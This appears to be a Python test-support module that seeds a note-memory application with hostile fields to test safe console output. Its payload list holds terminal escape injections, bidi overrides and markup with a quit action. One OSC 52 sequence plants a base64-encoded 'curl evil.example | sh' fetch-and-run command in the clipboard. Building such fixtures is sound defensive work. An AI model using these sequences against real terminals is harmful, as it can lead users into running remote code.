"""A memory written by an attacker: every field the console or the command line shows holds escape
sequences, control characters, markup, bidi overrides and variation selectors."""

from __future__ import annotations

import json
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from core.clock import fixed_clock
from core.journal.entries import journal_dir
from core.notes import fields
from core.stores.nuggets.graph_file import graph_path
from core.stores.nuggets.store import NuggetsStore
from tests.support.console_support import NOW, demo_home

PAYLOADS = (
    "\x1b]2;retitled\x07",  # OSC 2: the terminal's title
    "\x1b[41m",  # CSI: a red background from here on
    "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07",  # OSC 52: write the clipboard
    "\x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\",  # OSC 8 hyperlink, ST-terminated
    "\x1bP+q544e\x1b\\",  # DCS
    "\x9b2J\x9d0;c1\x9c",  # the C1 forms of CSI, OSC and ST
    "\x07\x08\r\x0b\x0c\x00\x7f",
    "[red]markup[/red] [link=https://evil.example]x[/link] [@click=app.quit]q[/]",
    "\u202eevil\u202c\u2066",  # bidi overrides
    "\u263a\ufe0f a\ufe00 b\U000e0100",  # variation selectors 16, 1 and 17
)
EVIL = "".join(PAYLOADS)
ESC = "␛"  # how ESC shows: on screen wherever the hostile data is


def path_safe(text: str) -> str:
    """The text as a file name can hold it."""
    return text.replace("/", "").replace("\x00", "")


@dataclass(frozen=True)
class Hostile:
    home: Path
    note_id: str  # a visible note with every field hostile
    archived_id: str  # an archived one, to bring back
    missing_id: str  # the target of a link to no note
    memory_md: Path


def hostile_home(where: Path, evil: str = EVIL) -> Hostile:
    """The demo memory, in a directory with a hostile name, turned hostile throughout."""
    home = demo_home(where / path_safe("home " + evil))
    doc = json.loads(graph_path(home).read_bytes())
    notes: list[dict[str, Any]] = doc["notes"]
    for note in notes:
        note["title"] = f"{note.get('title') or ''} {evil}"
        note["tags"] = [*note.get("tags", []), f"tag {evil}"]
    visible = [n for n in notes if not fields.hidden(n)]
    first, other = visible[0], visible[1]
    archived = next(n for n in notes if fields.hidden(n) and not fields.merged_into(n))
    note_id, missing_id = f"note {evil}", f"missing {evil}"
    first.update(
        id=note_id,
        nuggetName=f"nugget {evil}",
        content=f"content {evil}\nline two {evil}",
        subject=evil,
        source=evil,
        scope=evil,
        type=evil,
        hits=9,
        links=[
            {"to": missing_id, "reason": f"reason {evil}", "createdAt": first["createdAt"]},
            {"to": other["id"], "reason": f"why {evil}", "createdAt": first["createdAt"]},
        ],
    )
    other.setdefault("links", []).append(
        {"to": note_id, "reason": f"back {evil}", "createdAt": first["createdAt"]}
    )
    archived["id"] = f"archived {evil}"
    graph_path(home).write_text(json.dumps(doc, ensure_ascii=False))
    memory_md = home / "memory" / "MEMORY.md"
    memory_md.parent.mkdir(exist_ok=True)
    hand = memory_md.read_text() if memory_md.exists() else ""
    memory_md.write_text(f"{hand}\n- hand-written {evil}\n")
    _hostile_journal(home, memory_md, other["id"], evil)
    return Hostile(home, note_id, archived["id"], missing_id, memory_md)


def _hostile_journal(home: Path, memory_md: Path, note_id: str, evil: str) -> None:
    """One applied run whose journal entry is then tampered with: its run id, time and summary."""
    memory = NuggetsStore(home, fixed_clock(NOW), memory_md=memory_md)
    plan = memory.plan()
    entry = memory.apply(plan)
    assert entry is not None
    tamper_entry(
        journal_dir(home) / f"{entry.run_id}.json",
        runId=f"{entry.run_id} {evil}",
        at=evil,
        summary=f"summary {evil}",
    )


def tamper_entry(path: Path, **fields: str) -> None:
    """Rewrite fields of a journal entry, in its header line and in the entry itself."""
    lines = []
    for text in path.read_text().splitlines():
        data = json.loads(text)
        data.update(fields)
        lines.append(json.dumps(data, ensure_ascii=False))
    path.write_text("\n".join(lines) + "\n")
